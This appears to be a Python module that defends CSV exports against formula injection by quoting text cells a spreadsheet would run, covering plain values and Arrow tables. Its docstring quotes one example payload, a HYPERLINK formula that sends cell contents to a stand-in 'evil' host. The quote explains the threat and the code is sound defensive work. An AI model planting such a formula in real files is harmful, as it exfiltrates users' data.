"""Text cells a spreadsheet would run as a formula, made inert before a CSV export writes them.

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or
a tab or carriage return before one) as a formula: a model or benchmark name such as
``=HYPERLINK("http://evil/?"&A1, "x")`` in an exported CSV would run when the file is opened. Such
a text cell gets a leading ``'``, which the spreadsheet shows as text (OWASP's advice for CSV
injection). A text cell that is a whole number (``-0.5``, ``+3``, ``1e-3``) is read as that number,
no formula, and stays as it is; so do numeric columns. One rule for every CSV forgetmap writes:
``inert_text`` and ``inert_value`` for Python values, ``inert_table`` for Arrow tables. A leaf
module.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # imported where used: the CLI's `--format csv` needs only ``inert_text``
    import pyarrow as pa

FORMULA_START = r"^[=+\-@\t\r]"
"""What a cell starts with when a spreadsheet may take it for a formula."""
NUMBER = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"
"""A cell that is only a number: a spreadsheet reads it as that number."""
QUOTE = "'"

_FORMULA_START = re.compile(FORMULA_START)
_NUMBER = re.compile(NUMBER)


def inert_text(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet runs: ``'`` before a formula-like start."""
    if _FORMULA_START.match(text) and not _NUMBER.match(text):
        return QUOTE + text
    return text


def inert_value(value: object) -> object:
    """``inert_text`` for text; any other value (a number, a date) as it is."""
    return inert_text(value) if isinstance(value, str) else value


def inert_column(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """``inert_text`` on every value of a text column (nulls stay null); other columns as given."""
    import pyarrow as pa
    import pyarrow.compute as pc

    if pa.types.is_dictionary(column.type) and pa.types.is_string(column.type.value_type):
        column = column.cast(pa.string())
    if not (pa.types.is_string(column.type) or pa.types.is_large_string(column.type)):
        return column
    risky = pc.and_(
        pc.match_substring_regex(column, FORMULA_START),
        pc.invert(pc.match_substring_regex(column, NUMBER)),
    )
    quoted = pc.binary_join_element_wise(QUOTE, column, "")
    return pc.if_else(risky, quoted, column)


def inert_table(table: pa.Table) -> pa.Table:
    """``table`` with every text column made inert for a spreadsheet (``inert_column``)."""
    import pyarrow as pa

    return pa.table(
        [inert_column(table.column(i)) for i in range(table.num_columns)],
        names=table.column_names,
    )
